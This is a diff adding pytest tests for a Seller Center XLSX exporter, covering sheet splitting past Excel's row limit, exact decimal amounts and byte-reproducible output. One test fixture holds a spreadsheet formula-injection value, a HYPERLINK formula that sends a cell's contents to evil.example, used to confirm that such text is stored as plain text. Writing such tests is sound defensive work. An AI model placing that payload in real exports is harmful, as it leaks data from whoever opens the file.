@@ -1,9 +1,12 @@
 """The Seller Center CSV exports: one file per shop and statement, byte for byte what formatting
 each statement apart gives, whichever way the chunked writer took (slices or fallback)."""
 
+import re
+import zipfile
 from datetime import date
 from pathlib import Path
 
+import fastexcel
 import polars as pl
 import pytest
 from hypothesis import given, settings
@@ -113,3 +116,60 @@ def test_exports_refuse_rows_of_an_unknown_statement(tmp_path):
     order_details, statements = _order_details([0, 1], ["Mug", "Tee"])
     with pytest.raises(ValueError, match="S1"):
         exports.write_exports(order_details, statements.filter(pl.col("statement_id") == "S0"), tmp_path, xlsx=False)
+
+
+def _sheets(path: Path) -> dict[str, pl.DataFrame]:
+    """Every sheet of an XLSX file, read back by calamine (fastexcel) with text columns as text."""
+    reader = fastexcel.read_excel(path)
+    return {name: reader.load_sheet(name, dtypes="string").to_polars() for name in reader.sheet_names}
+
+
+def _statement_header() -> pl.DataFrame:
+    return pl.DataFrame({"Statement ID": ["S0"], "Total settlement amount": ["-1234567.89"]}).with_columns(pl.col("Total settlement amount").cast(MONEY))
+
+
+def test_xlsx_holds_the_statement_and_its_rows_as_text_and_exact_numbers(tmp_path):
+    details = pl.DataFrame({
+        "Order/adjustment ID": ["576460752303423488123", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1", "@SUM(A1)"],
+        "Quantity": [1, 2, 3, 4],
+        "Total settlement amount": ["0.10", "-0.01", "9999999999999.99", "12.30"],
+    }).with_columns(pl.col("Total settlement amount").cast(MONEY))
+    exports.write_xlsx(tmp_path / "S0.xlsx", _statement_header(), details)
+    sheets = _sheets(tmp_path / "S0.xlsx")
+    assert list(sheets) == ["Statements", "Order details"]
+    assert sheets["Statements"].to_dicts() == [{"Statement ID": "S0", "Total settlement amount": "-1234567.89"}]
+    back = sheets["Order details"]
+    assert back["Order/adjustment ID"].to_list() == details["Order/adjustment ID"].to_list()  # long IDs never pass through a float
+    assert back["Quantity"].to_list() == ["1", "2", "3", "4"]
+    with zipfile.ZipFile(tmp_path / "S0.xlsx") as archive:
+        sheet = archive.read("xl/worksheets/sheet2.xml").decode()
+    assert re.findall("<v>([^<]*)</v>", sheet) == ["1", "0.1", "2", "-0.01", "3", "9999999999999.99", "4", "12.3"]  # each amount's own decimal
+    assert "<f>" not in sheet  # text that looks like a formula is written as text, never as a formula
+    assert sheet.count('t="inlineStr"') == 3 + 4
+
+
+def test_xlsx_bytes_are_reproducible(tmp_path):
+    details = pl.DataFrame({"SKU ID": ["A", "B"], "Net sales": ["1.00", "2.50"]}).with_columns(pl.col("Net sales").cast(MONEY))
+    exports.write_xlsx(tmp_path / "a.xlsx", _statement_header(), details)
+    exports.write_xlsx(tmp_path / "b.xlsx", _statement_header(), details)
+    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()
+
+
+def test_a_statement_longer_than_a_sheet_continues_on_the_next_sheets(tmp_path):
+    details = pl.DataFrame({"SKU ID": [f"K{i}" for i in range(7)], "Quantity": range(7)})
+    exports.write_xlsx(tmp_path / "S0.xlsx", _statement_header(), details, sheet_rows=3)
+    sheets = _sheets(tmp_path / "S0.xlsx")
+    assert list(sheets) == ["Statements", "Order details", "Order details (2)", "Order details (3)"]
+    assert [sheet.height for sheet in sheets.values()] == [1, 3, 3, 1]
+    assert pl.concat(list(sheets.values())[1:])["SKU ID"].to_list() == details["SKU ID"].to_list()
+
+
+def test_excel_row_limit_splits_a_statement_of_more_than_a_million_rows(tmp_path):
+    rows = exports.XLSX_SHEET_ROWS + 2
+    assert rows + 1 > 1_048_576  # more rows than one Excel sheet holds, with its header
+    details = pl.DataFrame({"Quantity": pl.int_range(rows, eager=True)})
+    exports.write_xlsx(tmp_path / "S0.xlsx", _statement_header(), details)
+    reader = fastexcel.read_excel(tmp_path / "S0.xlsx")
+    assert reader.sheet_names == ["Statements", "Order details", "Order details (2)"]
+    first, second = (reader.load_sheet(name).to_polars()["Quantity"] for name in reader.sheet_names[1:])
+    assert first.len() == 1_048_575 and second.to_list() == [float(rows - 2), float(rows - 1)]
